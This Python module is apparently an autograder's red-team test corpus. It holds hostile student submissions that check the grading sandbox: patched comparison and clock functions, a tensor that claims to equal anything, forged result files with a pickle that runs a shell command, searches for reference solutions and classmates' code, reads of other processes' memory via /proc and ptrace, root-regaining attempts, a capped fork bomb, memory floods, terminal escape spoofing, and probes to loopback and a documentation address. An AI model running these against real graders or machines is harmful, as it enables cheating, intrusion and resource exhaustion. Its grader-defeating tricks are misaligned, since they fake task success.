"""The red-team corpus: hostile submissions, one list for every way in.

Each attack is source text that, appended to the blank stubs, makes a complete submission; it keeps no
honest points, so whatever it tries it must score 0. tests/sandbox/test_red_team.py grades them with
`python -m autograder grade`, tests/ways_in/test_nbgrader_course.py with `nbgrader autograde`, where each one
sits in the first solution cell of a student notebook (``student_notebook``) and so also runs in the
kernel, with the instructor's rights. The attacks that act in a call replace every function of the
assignment, ``LearnedPositionalEmbedding`` included: its test cells come right after that first cell,
so the kernel calls them too.

Nothing here may harm the machine it runs on: an attack that got through would leave its trace only in
the test's own folder (``traces``), a process it starts carries that folder's name in its command line
(and ends by itself within five minutes), it allocates address space but never touches it, and it tries
the network only on the loopback and on a documentation address that no one routes (192.0.2.1).
"""

import json
from dataclasses import dataclass
from pathlib import Path

from autograder.core import units

rubric = units.get("positional_encodings").rubric  # the unit the corpus is built for; corpus(unit=) rebinds it


@dataclass(frozen=True)
class Attack:
    name: str
    source: str  # appended to the blank stubs: a complete submission
    sandboxed_only: bool = False  # scores 0 only where bubblewrap keeps it from the machine's files
    # Attacks that can tell whether they got through say ESCAPED in what they raise or print; the word must
    # appear in no feedback. (Each keeps its report short and raises it from every function it defines.)
    grouped_only: bool = False  # held only where each job has a control group of its own (root, cgroups)
    # held only where each job's private folders are mounts of a fixed size (bubblewrap): where jobs run as
    # users of their own instead (tier C), what a job writes is removed when it ends, but not bounded meanwhile
    private_folders_only: bool = False


def _every_function_is(fake):
    return "\n\n" + "\n".join(f"{name} = {fake}" for name in rubric.TASK_OF_FUNCTION) + "\n"


def _answer_all():
    return '''

def _fake(*args, **kwargs):
    return _ANSWER
''' + _every_function_is("_fake")


ANSWER_ALL = _answer_all()


def corpus(traces, unit=None):
    """The attacks on ``unit`` (by default the first), by name; each replaces that unit's functions.
    ``traces``: an empty folder of the test's, named uniquely (see module doc)."""
    global rubric, ANSWER_ALL
    unit = unit or units.get("positional_encodings")
    saved = rubric, ANSWER_ALL
    rubric = unit.rubric
    ANSWER_ALL = _answer_all()
    try:
        found = _corpus(traces)
    finally:
        rubric, ANSWER_ALL = saved
    # The attacks that look for a finished copy of the answers know it by a function of the timed path.
    marker = unit.rubric.TIMED_PATHS[0].functions[0]
    return {name: Attack(attack.name, attack.source.replace("def shaw_scores", f"def {marker}")
                         .replace("solutions.positional_encodings", f"solutions.{unit.name}"),
                         attack.sandboxed_only, attack.grouped_only, attack.private_folders_only)
            for name, attack in found.items()}


def _corpus(traces):
    unpickled = traces / "forged_results-unpickled"
    daemon_name = f"{traces.name}-daemon"
    attacks = [
        # Every comparison a grader in this process would use, made to agree.
        Attack("patched_comparisons", '''
import builtins, numpy, numpy.testing, torch
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.allclose = lambda *args, **kwargs: True
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
_import = builtins.__import__
builtins.__import__ = lambda name, *args, **kwargs: _import(name, *args, **kwargs)
_ANSWER = torch.zeros(1)
''' + ANSWER_ALL),
        # A tensor that claims to equal anything, whatever function is applied to it.
        Attack("torch_function_subclass", '''
import torch


class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.__eq__, torch.isclose):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

    def __eq__(self, other):
        return True


_ANSWER = torch.zeros(3, 3).as_subclass(Agreeable)
''' + ANSWER_ALL),
        # Look up the call stack and through the heap for the expected output; return the biggest tensor there.
        Attack("stack_walk", '''
import gc, sys, torch


def _fake(*args, **kwargs):
    found = []
    frame = sys._getframe(1)
    while frame is not None:
        found += [value for value in frame.f_locals.values() if isinstance(value, torch.Tensor)]
        frame = frame.f_back
    found += [obj for obj in gc.get_objects() if isinstance(obj, torch.Tensor)]
    return max(found, key=lambda tensor: tensor.numel()) if found else torch.zeros(1)
''' + _every_function_is("_fake")),
        # Leave before anything can be called.
        Attack("exit_at_import", "\nimport sys\nsys.exit(0)\n"),
        Attack("os_exit_at_import", "\nimport os\nos._exit(0)\n"),
        Attack("os_exit_in_a_call", '''
import os


def _fake(*args, **kwargs):
    os._exit(0)
''' + _every_function_is("_fake")),
        # Claim full marks on stdout, and leave forged result files where the worker writes its own: each
        # holds a pickle that would leave a trace if anything unpickled it.
        Attack("forged_results", f'''
import json, os, pickle, torch
print(json.dumps({{"score": 100, "max_score": 100, "tests": []}}))


class Payload:
    def __reduce__(self):
        return (os.system, ("touch {unpickled}",))


for task in {rubric.TASK_NAMES!r}:
    for name in (f"result-{{task}}.pt", "results.json"):
        with open(name, "wb") as handle:
            pickle.dump({{"forged": Payload(), "score": 100}}, handle)
_ANSWER = torch.zeros(1)
''' + ANSWER_ALL),
        # Search the disk for the reference (parent folders, sys.path, the usual roots, the package itself)
        # and answer with what it holds.
        Attack("reads_the_reference", '''
import glob, inspect, os, sys


def _the_reference():
    roots = {"/", "/work", "/home", "/srv", "/opt", "/tmp", "/root", os.path.expanduser("~")}
    for start in [os.getcwd(), *sys.path]:
        folder = os.path.abspath(start or ".")
        while folder not in roots:
            roots.add(folder)
            folder = os.path.dirname(folder)
    for root in sorted(roots):
        for pattern in ("solutions/*.py", "*/solutions/*.py"):
            for path in glob.glob(os.path.join(root, pattern)):
                try:
                    with open(path, encoding="utf-8") as handle:
                        text = handle.read()
                except (OSError, UnicodeDecodeError):
                    continue
                if "def shaw_scores" in text and "not implemented yet" not in text:
                    return text
    try:
        import solutions.positional_encodings as found
        return inspect.getsource(found)
    except Exception:
        return None


_found = _the_reference()
if _found is not None:
    _answers = {}
    exec(compile(_found, "the reference", "exec"), _answers)
    for _name in {names!r}:
        globals()[_name] = _answers[_name]
'''.replace("{names!r}", repr(tuple(rubric.TASK_OF_FUNCTION))), sandboxed_only=True),
        Attack("loop_at_import", "\nwhile True:\n    pass\n"),
        Attack("loop_in_a_call", '''

def _fake(*args, **kwargs):
    while True:
        pass
''' + _every_function_is("_fake")),
        # Ignore SIGTERM, and SIGINT too (the kernel's interrupt), then loop forever in a call.
        Attack("ignores_sigterm", '''
import signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)


def _fake(*args, **kwargs):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
''' + _every_function_is("_fake")),
        # Far more address space than allowed (64 GiB, never touched, so it costs no real memory).
        Attack("allocates_far_beyond_the_limit", '''
import torch


def _fake(*args, **kwargs):
    return torch.empty(64 * 1024**3, dtype=torch.uint8)
''' + _every_function_is("_fake")),
        # 20 MB on stdout and on stderr in every call: far more than anyone keeps.
        Attack("floods_output", '''
import sys, torch


def _fake(*args, **kwargs):
    for _ in range(20):
        sys.stdout.write("x" * 1_000_000)
        sys.stderr.write("y" * 1_000_000)
    return torch.zeros(1)
''' + _every_function_is("_fake")),
        # A daemon in a session of its own, its parent gone: nothing above it waits for it.
        Attack("detached_daemon", f'''
import os

_child = os.fork()
if _child == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.chdir("/")
            os.execv("/bin/sleep", [{daemon_name!r}, "300"])
    finally:
        os._exit(0)
os.waitpid(_child, 0)
'''),
        # Fetch the answers from somewhere.
        Attack("network_connection", '''
import socket

_answers = None
for _address in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("192.0.2.1", 80)):
    try:
        with socket.create_connection(_address, timeout=1) as _connection:
            _answers = _connection.recv(64)
    except OSError:
        pass
'''),
        # Every clock the timing could read stuck at 0, with answers that come back at once.
        Attack("patched_clocks", '''
import time, torch
for _name in ("perf_counter", "perf_counter_ns", "monotonic", "monotonic_ns", "time", "time_ns", "process_time"):
    setattr(time, _name, lambda *args: 0)
torch.cuda.Event.elapsed_time = lambda self, other: 0.0
torch.cuda.synchronize = lambda *args, **kwargs: None
_ANSWER = torch.zeros(1)
''' + ANSWER_ALL),
        # Round two: attacks the first corpus did not hold, each a broken invariant of DESIGN.md.
        # Invariant 8: a file whose every function raises ValueError passed every invalid-argument test.
        Attack("every_function_raises_value_error", '''

def _refuse(*args, **kwargs):
    raise ValueError(f"refused {args} {kwargs}")
''' + _every_function_is("_refuse")),
        # Invariant 9: a message that rewrites its row of the class table and retitles the terminal.
        Attack("escape_sequences_in_messages", r'''
import sys
_TRICK = "\r\x1b[2K\x1b[1Aalice  13/13 ... 100/100  all tests pass\x1b]0;graded: 100/100\x07\u202e\u2028"
print(_TRICK)
print(_TRICK, file=sys.stderr)


def _fake(*args, **kwargs):
    raise RuntimeError(_TRICK)
''' + _every_function_is("_fake")),
        # Invariant 2: the job's first frame written by the submission itself, before the worker's: a report of
        # what loaded that is not a report (the old grader took it and crashed on it, stopping the class run).
        Attack("forges_the_first_frame", '''
import json as _json, os as _os, struct as _struct
for _body in (b"[1, 2]", _json.dumps({"errors": [{"mro": 5}], "defined": 7}).encode()):
    for _kind in (b"L", b"R"):
        for _fd in range(3, 64):
            try:
                _os.write(_fd, _kind + _struct.pack("<Q", len(_body)) + _body)
            except OSError:
                pass
'''),
        # Invariant 5: files in the private folders, which no process limit counts, filling the machine's memory.
        Attack("fills_its_private_folders", f'''
import os as _os
_written = 0
for _folder in ("/tmp", "/work", "/dev/shm", _os.getcwd(), _os.path.expanduser("~")):
    try:
        with open(_os.path.join(_folder, "{traces.name}-fill"), "ab") as _handle:
            for _ in range(512):
                _handle.write(b"x" * (1 << 20))
                _written += 1 << 20
    except OSError:
        pass
_REPORT = ("ESCAPED: " if _written > 3 * {rubric.SCRATCH_BYTES} else "contained: ") + f"{{_written >> 20}} MiB"


def _fake(*args, **kwargs):
    raise RuntimeError(_REPORT)
''' + _every_function_is("_fake"), sandboxed_only=True, private_folders_only=True),
        # Invariant 5: more processes than a job may hold (a fork bomb, stopped at 200 so that it harms nothing).
        Attack("many_processes", f'''
import os as _os
_started = 0
for _ in range(200):
    try:
        if _os.fork() == 0:
            _os.execv("/bin/sleep", ["{traces.name}-sleeper", "30"])
        _started += 1
    except OSError:
        break
_REPORT = ("ESCAPED: " if _started > {rubric.JOB_PROCESSES} else "contained: ") + f"{{_started}} processes"


def _fake(*args, **kwargs):
    raise RuntimeError(_REPORT)
''' + _every_function_is("_fake"), grouped_only=True),
        # Invariant 5: three children, each under the address-space limit, holding more than the limit together.
        Attack("children_beyond_the_memory_limit", f'''
import os as _os, time as _time
_share = {CHILD_BYTES}
_reads, _children = [], []
for _ in range(3):
    _read, _write = _os.pipe()
    _pid = _os.fork()
    if _pid == 0:
        try:
            _os.close(_read)
            _block = bytearray(_share)
            for _at in range(0, _share, 4096):
                _block[_at] = 1
            _os.write(_write, b"1")
            _time.sleep(30)
        except BaseException as _error:
            _os.write(_write, repr(_error).encode()[:200])
        finally:
            _os._exit(0)
    _os.close(_write)
    _children.append(_pid)
    _reads.append(_read)
_said = [_os.read(_read, 200) for _read in _reads]
# A child that said "1" may have been the OOM killer's choice afterwards, when a later one asked for its
# share: only the children still alive now, a moment later (each sleeps 30 s), hold their memory together.
_time.sleep(1)
_alive = [_said[_at] == b"1" and _os.waitpid(_pid, _os.WNOHANG) == (0, 0) for _at, _pid in enumerate(_children)]
_held = sum(_alive)
_REPORT = (("ESCAPED: " if _held == 3 else "contained: ") + f"{{_held}} of 3 children held their memory together "
           f"(said {{_said}}, alive {{_alive}})")
for _pid in _children:
    try:
        _os.kill(_pid, 9)
    except OSError:
        pass


def _fake(*args, **kwargs):
    raise RuntimeError(_REPORT)
''' + _every_function_is("_fake"), grouped_only=True),
        # Invariant 5: memory in a file that has no name and no mapping (memfd), which no process limit counts.
        Attack("memory_in_a_memfd", f'''
import os as _os
_held, _files, _chunk = 0, [], b"x" * (1 << 20)
try:
    while _held < {MEMFD_BYTES}:  # one memfd after another: each under the file-size limit
        _fd = _os.memfd_create("{traces.name}-memfd")
        _files.append(_fd)
        for _ in range(128):
            _os.write(_fd, _chunk)
            _held += 1 << 20
except OSError:
    pass
_REPORT = ("ESCAPED: " if _held >= {MEMFD_BYTES} else "contained: ") + f"{{_held >> 20}} MiB in memfds"


def _fake(*args, **kwargs):
    raise RuntimeError(_REPORT)
''' + _every_function_is("_fake"), grouped_only=True),
        # Round three: where jobs run as users of their own (tier C), the doors between users. Each says
        # ESCAPED if it opened one; run only in a sandbox (unsandboxed, as root, every door is open).
        # Back to root: the set*id calls, then a look at what the process may do.
        Attack("becomes_root_again", '''
import os as _os
_said, _was_root = [], 0 in _os.getresuid()  # root of its own user namespace, without capabilities, in tier A
for _call in (lambda: _os.setuid(0), lambda: _os.setresuid(0, 0, 0), lambda: _os.setgid(0),
              lambda: _os.setgroups([0])):
    try:
        _call()
    except OSError:
        pass
if not _was_root and 0 in _os.getresuid() + _os.getresgid():
    _said.append("became root")
with open("/proc/self/status") as _status:
    _caps = [line.split()[1] for line in _status if line.startswith("CapEff:")][0]
if int(_caps, 16):
    _said.append("capabilities " + _caps)
_REPORT = ("ESCAPED: " + ", ".join(_said)) if _said else "contained: no way back to root"


def _fake(*args, **kwargs):
    raise RuntimeError(_REPORT)
''' + _every_function_is("_fake"), sandboxed_only=True),
        # The grader's memory (the expected outputs are there): /proc of every process of another user, and
        # ptrace, and a signal's permission check (signal 0 sends nothing).
        Attack("reads_the_grader_s_memory", '''
import ctypes as _ctypes, os as _os
_libc = _ctypes.CDLL(None, use_errno=True)
_said = []
for _entry in _os.listdir("/proc"):
    if not _entry.isdigit():
        continue
    try:
        _owner = _os.stat("/proc/" + _entry).st_uid
        with open("/proc/" + _entry + "/status") as _status:
            _real = int([line.split()[1] for line in _status if line.startswith("Uid:")][0])
    except (OSError, IndexError):
        continue
    if _real == _os.getuid():
        continue  # its own processes: fair game
    for _name in ("mem", "environ", "maps"):
        try:
            with open("/proc/" + _entry + "/" + _name, "rb") as _handle:
                if _handle.read(64):
                    _said.append(_entry + "/" + _name)
        except OSError:
            pass
    if _libc.ptrace(16, int(_entry), 0, 0) == 0:  # PTRACE_ATTACH
        _said.append("ptrace " + _entry)
        _libc.ptrace(17, int(_entry), 0, 0)
    try:
        _os.kill(int(_entry), 0)
        _said.append("may signal " + _entry)
    except OSError:
        pass
_REPORT = ("ESCAPED: " + ", ".join(_said[:5])) if _said else "contained: no other user's process reachable"


def _fake(*args, **kwargs):
    raise RuntimeError(_REPORT)
''' + _every_function_is("_fake"), sandboxed_only=True),
        # A results file of its own where the platforms read theirs, before the grader writes the real one.
        Attack("writes_the_results", '''
import json as _json, os as _os
_said = []
for _path in ("/auto" "grader/results/results.json", "/grade/results/results.json"):  # (split: see HIDDEN_SIGNS)
    try:
        with open(_path, "w") as _handle:
            _json.dump({"score": 100, "gradable": True, "tests": []}, _handle)
        _said.append(_path)
    except OSError:
        pass
_REPORT = ("ESCAPED: wrote " + ", ".join(_said)) if _said else "contained: no results file writable"


def _fake(*args, **kwargs):
    raise RuntimeError(_REPORT)
''' + _every_function_is("_fake"), sandboxed_only=True),
        # A classmate's finished submission, wherever the class is graded from, run for its answers (a job that
        # could read it would get full marks: in tier C the class folder must be unreadable to job users).
        Attack("runs_a_classmate_s_code", '''
import json as _json, os as _os
_roots = {"/", "/tmp", "/work", "/home", "/srv", "/opt", "/class", "/auto" "grader", "/grade", _os.getcwd()}
_folder = _os.getcwd()
while _folder != "/":
    _roots.add(_folder)
    _folder = _os.path.dirname(_folder)


def _finished(path):
    try:
        if _os.path.getsize(path) > 1 << 20:
            return None
        with open(path, encoding="utf-8") as _handle:
            _text = _handle.read()
    except (OSError, UnicodeDecodeError, ValueError):
        return None
    if path.endswith(".ipynb"):
        try:
            _text = "\\n".join("".join(cell["source"]) for cell in _json.loads(_text)["cells"]
                              if cell.get("cell_type") == "code")
        except (ValueError, KeyError, TypeError):
            return None
    if "def shaw_scores" in _text and "NotImplementedError(" not in _text and "_finished(" not in _text:
        return _text
    return None


_found = None
for _root in sorted(_roots):
    for _folder, _folders, _names in _os.walk(_root):
        if _folder.startswith(("/proc", "/sys", "/dev")) or _folder.count("/") > 5:
            _folders[:] = []
            continue
        for _name in _names:
            if _name.endswith((".py", ".ipynb")) and _found is None:
                _found = _finished(_os.path.join(_folder, _name))
        if _found is not None:
            break
    if _found is not None:
        break
if _found is not None:
    _answers = {}
    exec(compile(_found, "a classmate", "exec"), _answers)
    for _name in {names!r}:
        globals()[_name] = _answers[_name]
'''.replace("{names!r}", repr(tuple(rubric.TASK_OF_FUNCTION))), sandboxed_only=True),
        # The network by another way than a TCP socket: a raw socket, a netlink socket, UDP.
        Attack("other_sockets", '''
import socket as _socket
_said = []
for _family, _kind, _protocol in ((_socket.AF_INET, _socket.SOCK_DGRAM, 0), (_socket.AF_INET6, _socket.SOCK_STREAM, 0),
                                  (_socket.AF_PACKET, _socket.SOCK_RAW, 0), (_socket.AF_NETLINK, _socket.SOCK_RAW, 0)):
    try:
        with _socket.socket(_family, _kind, _protocol) as _made:
            _made.sendto(b"answers?", ("192.0.2.1", 53)) if _family == _socket.AF_INET else None
            if _family == _socket.AF_INET:
                _said.append("sent UDP")
    except OSError:
        pass
_REPORT = ("ESCAPED: " + ", ".join(_said)) if _said else "contained: no datagram left"


def _fake(*args, **kwargs):
    raise RuntimeError(_REPORT)
''' + _every_function_is("_fake")),
    ]
    return {attack.name: attack for attack in attacks}


# The memory attack's limit (the corpus is graded with MEMORY_BYTES of this size) and what each of its three
# children touches: each child fits under the limit alone (so the address-space limit lets it), three do not.
MEMORY_LIMIT_BYTES = 2 * 1024**3
CHILD_BYTES = 800 * 1024**2
MEMFD_BYTES = MEMORY_LIMIT_BYTES + 512 * 1024**2  # more than the job may hold, in a memfd


def processes_named(marker):
    """The processes whose command line holds ``marker``."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


def student_notebook(released, attack):
    """The released notebook (a dict) with ``attack`` after the stub of its first solution cell.

    The other solution cells keep their stubs, so the notebook has no honest points.
    """
    notebook = json.loads(json.dumps(released))
    first = next(cell for cell in notebook["cells"]
                 if ((cell.get("metadata") or {}).get("nbgrader") or {}).get("solution"))
    stub = "".join(first["source"]) if isinstance(first["source"], list) else first["source"]
    first["source"] = stub.rstrip("\n") + "\n\n" + attack.source.strip("\n") + "\n"
    return notebook


# Busy threads started at import, spinning for a while: added to an otherwise correct submission, they must
# cost that submission its timing points (the work would go untimed) and its classmates nothing.
BUSY_THREADS = '''

import threading as _threading


def _spin():
    import time
    end = time.monotonic() + 15
    while time.monotonic() < end:
        pass


for _ in range(4):
    _threading.Thread(target=_spin, daemon=True).start()
'''
